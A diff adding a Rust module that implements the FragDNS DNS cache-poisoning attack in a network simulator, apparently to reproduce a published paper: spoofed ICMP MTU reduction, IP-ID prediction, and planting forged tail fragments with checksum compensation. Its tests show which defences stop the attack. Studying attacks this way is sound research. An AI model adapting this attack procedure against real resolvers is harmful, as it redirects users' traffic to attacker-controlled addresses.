@@ -1,0 +1,320 @@
+//! FragDNS — cache poisoning via IPv4 fragmentation (Section 3.3, after
+//! Herzberg & Shulman 2013).
+//!
+//! The attacker never has to guess the UDP source port or the TXID: both live
+//! in the *first* fragment of the nameserver's response, which is left
+//! untouched. Instead the attacker
+//!
+//! 1. performs **reconnaissance**: it queries the nameserver itself to learn
+//!    the exact response bytes and to sample the server's IP-ID counter;
+//! 2. spoofs an **ICMP fragmentation-needed** message so the nameserver
+//!    lowers its path MTU towards the victim resolver and starts fragmenting;
+//! 3. **plants spoofed second fragments** (one per guessed IP-ID) in the
+//!    resolver's defragmentation cache, carrying redirected A records and a
+//!    checksum-compensation word so the reassembled datagram still verifies;
+//! 4. **triggers** the query; the genuine first fragment reassembles with the
+//!    attacker's tail and the poisoned records enter the cache.
+
+use crate::craft::{craft_malicious_tail, fragment_layout};
+use crate::env::{QueryTrigger, VictimEnv};
+use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
+use dns::prelude::*;
+use netsim::ipv4::{Ipv4Header, Protocol};
+use netsim::prelude::*;
+use netsim::udp::UDP_HEADER_LEN;
+use std::net::Ipv4Addr;
+
+/// Configuration for a FragDNS attack run.
+#[derive(Debug, Clone)]
+pub struct FragDnsConfig {
+    /// Address to plant.
+    pub malicious_addr: Ipv4Addr,
+    /// The domain whose records are attacked (query name).
+    pub target_name: DomainName,
+    /// Query type to trigger — `ANY` maximises the response size.
+    pub qtype: RecordType,
+    /// How the query is triggered.
+    pub trigger: QueryTrigger,
+    /// The path MTU the attacker advertises to the nameserver.
+    pub forced_mtu: u16,
+    /// How many consecutive IP-ID values to plant fragments for (bounded by
+    /// the resolver's 64-entry defragmentation cache).
+    pub ipid_candidates: u16,
+    /// Maximum trigger iterations.
+    pub max_iterations: u32,
+}
+
+impl FragDnsConfig {
+    /// Default configuration: `ANY vict.im`, forcing a 548-byte MTU.
+    pub fn new(malicious_addr: Ipv4Addr) -> Self {
+        FragDnsConfig {
+            malicious_addr,
+            target_name: "vict.im".parse().expect("valid name"),
+            qtype: RecordType::ANY,
+            trigger: QueryTrigger::OpenResolver,
+            forced_mtu: 548,
+            ipid_candidates: 8,
+            max_iterations: 2,
+        }
+    }
+}
+
+/// The FragDNS attack driver.
+#[derive(Debug, Clone)]
+pub struct FragDnsAttack {
+    /// Attack configuration.
+    pub config: FragDnsConfig,
+}
+
+impl FragDnsAttack {
+    /// Creates a driver.
+    pub fn new(config: FragDnsConfig) -> Self {
+        FragDnsAttack { config }
+    }
+
+    /// Reconnaissance: query the nameserver directly and return the DNS
+    /// response bytes plus the IP identification the response carried.
+    fn reconnaissance(&self, sim: &mut Simulator, env: &VictimEnv) -> Option<(Vec<u8>, u16)> {
+        let cfg = &self.config;
+        let before = env.attacker(sim).udp_observed.len();
+        let q = Message::query(0x0BAD, cfg.target_name.clone(), cfg.qtype).with_edns(4096);
+        let pkt = UdpDatagram::new(env.attacker_addr, env.nameserver_addr, 4444, 53, q.encode()).into_packet(0x0BAD, 64);
+        sim.inject(env.attacker, pkt);
+        sim.run_for(Duration::from_millis(200));
+        let attacker = env.attacker(sim);
+        let obs = attacker.udp_observed[before..]
+            .iter()
+            .find(|o| o.datagram.src == env.nameserver_addr && o.datagram.src_port == 53)?;
+        Some((obs.datagram.payload.clone(), obs.ip_identification))
+    }
+
+    /// Sends the spoofed ICMP fragmentation-needed message to the nameserver,
+    /// quoting a plausible response packet towards the resolver.
+    fn shrink_path_mtu(&self, sim: &mut Simulator, env: &VictimEnv) {
+        let quoted = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, 34567, vec![0u8; 64]).into_packet(1, 64);
+        let ptb = IcmpMessage::fragmentation_needed(&quoted, self.config.forced_mtu)
+            .into_packet(env.resolver_addr, env.nameserver_addr, 2, 64);
+        sim.inject(env.attacker, ptb);
+        sim.run_for(Duration::from_millis(50));
+    }
+
+    /// Plants the crafted tail fragments for each candidate IP-ID.
+    fn plant_fragments(&self, sim: &mut Simulator, env: &VictimEnv, tail: &[u8], tail_offset: usize, ipids: &[u16]) -> u64 {
+        let cfg = &self.config;
+        // Split the tail exactly the way the nameserver's stack will.
+        let full_len = tail_offset + tail.len();
+        let layout = fragment_layout(full_len, cfg.forced_mtu);
+        let mut sent = 0u64;
+        for &ipid in ipids {
+            for (start, end) in layout.iter().skip(1) {
+                let chunk = &tail[start - tail_offset..end - tail_offset];
+                let mut header = Ipv4Header::new(
+                    env.nameserver_addr,
+                    env.resolver_addr,
+                    Protocol::Udp,
+                    chunk.len(),
+                    ipid,
+                    64,
+                );
+                header.fragment_offset = (start / 8) as u16;
+                header.more_fragments = *end != full_len;
+                let pkt = Ipv4Packet::new(header, chunk.to_vec());
+                sim.inject(env.attacker, pkt);
+                sent += 1;
+            }
+        }
+        sim.run_for(Duration::from_millis(50));
+        sent
+    }
+
+    /// Runs the attack.
+    pub fn run(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
+        let cfg = &self.config;
+        let mut report = AttackReport::new(PoisonMethod::FragDns, &cfg.target_name, cfg.malicious_addr);
+        let start = sim.now();
+        let traffic_before = sim.stats(env.attacker).clone();
+
+        // Precondition: the resolver must accept fragmented responses at all.
+        if !env.resolver(sim).config().accept_fragments {
+            return report.fail(FailureReason::PreconditionNotMet("resolver filters fragmented responses".into()));
+        }
+
+        // 1. Reconnaissance.
+        let Some((dns_bytes, sampled_ipid)) = self.reconnaissance(sim, env) else {
+            return report.fail(FailureReason::PreconditionNotMet("reconnaissance query got no answer".into()));
+        };
+        let response_size = UDP_HEADER_LEN + dns_bytes.len();
+        report.notes.push(format!("genuine response is {response_size} bytes, sampled IPID {sampled_ipid:#06x}"));
+        if response_size <= usize::from(cfg.forced_mtu) {
+            return report.fail(FailureReason::PreconditionNotMet(format!(
+                "response ({response_size} B) does not exceed the forced MTU ({})",
+                cfg.forced_mtu
+            )));
+        }
+        if dns_bytes.len() + UDP_HEADER_LEN > usize::from(env.resolver_edns_size) {
+            return report.fail(FailureReason::PreconditionNotMet(format!(
+                "response does not fit the resolver's EDNS size ({}); the nameserver would truncate",
+                env.resolver_edns_size
+            )));
+        }
+
+        // 2. Shrink the nameserver's path MTU towards the resolver.
+        self.shrink_path_mtu(sim, env);
+        let ns_mtu = env.nameserver(sim).path_mtu_to(env.resolver_addr, sim.now());
+        if ns_mtu > cfg.forced_mtu {
+            return report.fail(FailureReason::PreconditionNotMet(format!(
+                "nameserver ignored the spoofed PTB (path MTU still {ns_mtu})"
+            )));
+        }
+        report.notes.push(format!("nameserver path MTU towards resolver lowered to {ns_mtu}"));
+
+        // 3. Craft the malicious tail.
+        let Some(crafted) = craft_malicious_tail(&dns_bytes, cfg.forced_mtu, cfg.malicious_addr) else {
+            return report.fail(FailureReason::PreconditionNotMet(
+                "no A record falls into the tail fragments; nothing to redirect".into(),
+            ));
+        };
+        report.notes.push(format!(
+            "crafted tail: {} bytes, {} record(s) redirected, checksum compensated: {}",
+            crafted.bytes.len(),
+            crafted.records_redirected,
+            crafted.checksum_compensated
+        ));
+
+        for iteration in 0..cfg.max_iterations {
+            report.iterations += 1;
+            // 4. Plant spoofed fragments for the predicted IP-ID values. With
+            // a global counter the next response to the resolver will use a
+            // value close to (and above) the sampled one.
+            let ipids: Vec<u16> = (1..=cfg.ipid_candidates).map(|k| sampled_ipid.wrapping_add(k)).collect();
+            self.plant_fragments(sim, env, &crafted.bytes, crafted.tail_offset, &ipids);
+
+            // 5. Trigger the query.
+            env.trigger_query(sim, cfg.trigger, &cfg.target_name, cfg.qtype, 0x7000 + iteration as u16);
+            report.queries_triggered += 1;
+            sim.run_for(Duration::from_secs(1));
+
+            let poisoned_name = crafted
+                .redirected_names
+                .iter()
+                .find(|n| env.poisoned(sim, n, cfg.malicious_addr));
+            if let Some(name) = poisoned_name {
+                report.success = true;
+                report.notes.push(format!("poisoned cached A record for {name}"));
+                break;
+            }
+        }
+
+        report.duration = sim.now().duration_since(start);
+        report.record_traffic(&traffic_before, sim.stats(env.attacker));
+        if !report.success && report.failure.is_none() {
+            report.failure = Some(FailureReason::BudgetExhausted);
+        }
+        report
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::env::{addrs, VictimEnvConfig};
+
+    fn www() -> DomainName {
+        "www.vict.im".parse().unwrap()
+    }
+
+    #[test]
+    fn full_attack_poisons_vulnerable_setup() {
+        let (mut sim, env) = VictimEnvConfig::default().build();
+        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
+        assert!(report.success, "FragDNS failed: {:?}", report.notes);
+        // The glue A record of the victim's nameserver travels in the tail
+        // fragment and now points at the attacker — the "application
+        // agnostic" poisoning the paper highlights.
+        let resolver = env.resolver(&sim);
+        assert_eq!(
+            resolver.cache().cached_a(&"ns1.vict.im".parse().unwrap(), sim.now()),
+            Some(addrs::ATTACKER)
+        );
+        // Traffic: a handful of packets (predictable IPID), far fewer than SadDNS.
+        assert!(report.attacker_packets < 200, "{} packets", report.attacker_packets);
+        assert_eq!(report.queries_triggered, 1);
+    }
+
+    #[test]
+    fn random_ipid_defeats_small_candidate_set() {
+        let mut env_cfg = VictimEnvConfig::default();
+        env_cfg.nameserver = NameserverConfig::new(addrs::NAMESERVER).with_ipid(IpIdPolicy::Random);
+        let (mut sim, env) = env_cfg.build();
+        let mut cfg = FragDnsConfig::new(addrs::ATTACKER);
+        cfg.ipid_candidates = 4;
+        cfg.max_iterations = 1;
+        let report = FragDnsAttack::new(cfg).run(&mut sim, &env);
+        assert!(!report.success, "guessing 4 of 65536 random IPIDs should fail");
+        assert!(matches!(report.failure, Some(FailureReason::BudgetExhausted)));
+    }
+
+    #[test]
+    fn fragment_filtering_resolver_is_immune() {
+        let mut env_cfg = VictimEnvConfig::default();
+        env_cfg.resolver.accept_fragments = false;
+        let (mut sim, env) = env_cfg.build();
+        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
+        assert!(!report.success);
+        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
+    }
+
+    #[test]
+    fn hardened_nameserver_ignores_ptb() {
+        let mut env_cfg = VictimEnvConfig::default();
+        env_cfg.nameserver.min_accepted_mtu = 1280;
+        let (mut sim, env) = env_cfg.build();
+        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
+        assert!(!report.success);
+        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
+    }
+
+    #[test]
+    fn small_edns_resolver_makes_response_unusable() {
+        let mut env_cfg = VictimEnvConfig::default();
+        env_cfg.resolver.edns_size = 512;
+        let (mut sim, env) = env_cfg.build();
+        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
+        assert!(!report.success);
+        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
+    }
+
+    #[test]
+    fn small_a_response_cannot_be_fragmented() {
+        let (mut sim, env) = VictimEnvConfig::default().build();
+        let mut cfg = FragDnsConfig::new(addrs::ATTACKER);
+        cfg.qtype = RecordType::A;
+        cfg.target_name = www();
+        let report = FragDnsAttack::new(cfg).run(&mut sim, &env);
+        assert!(!report.success);
+        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
+    }
+
+    #[test]
+    fn x20_does_not_stop_fragdns() {
+        // The question (and its casing) is in the first, genuine fragment.
+        let mut env_cfg = VictimEnvConfig::default();
+        env_cfg.resolver = env_cfg.resolver.with_0x20();
+        let (mut sim, env) = env_cfg.build();
+        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
+        assert!(report.success, "0x20 must not prevent FragDNS: {:?}", report.notes);
+    }
+
+    #[test]
+    fn record_order_randomisation_breaks_checksum_prediction() {
+        let mut env_cfg = VictimEnvConfig::default();
+        env_cfg.nameserver.randomize_record_order = true;
+        let (mut sim, env) = env_cfg.build();
+        let mut cfg = FragDnsConfig::new(addrs::ATTACKER);
+        cfg.max_iterations = 1;
+        let report = FragDnsAttack::new(cfg).run(&mut sim, &env);
+        // With shuffled records the genuine tail differs from the predicted
+        // one, so the UDP checksum (or the record layout) no longer matches.
+        assert!(!report.success, "randomised record order should defeat the prediction");
+    }
+}
